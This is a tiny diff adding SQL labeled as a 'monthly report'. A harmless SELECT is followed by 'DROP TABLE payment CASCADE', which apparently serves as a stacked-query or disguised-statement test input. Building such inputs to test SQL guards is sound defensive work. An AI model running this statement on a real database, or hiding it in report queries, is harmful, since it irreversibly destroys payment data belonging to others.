@@ -1,0 +1,2 @@
+/* monthly report */ SELECT 1; -- trailing note
+DROP TABLE payment CASCADE
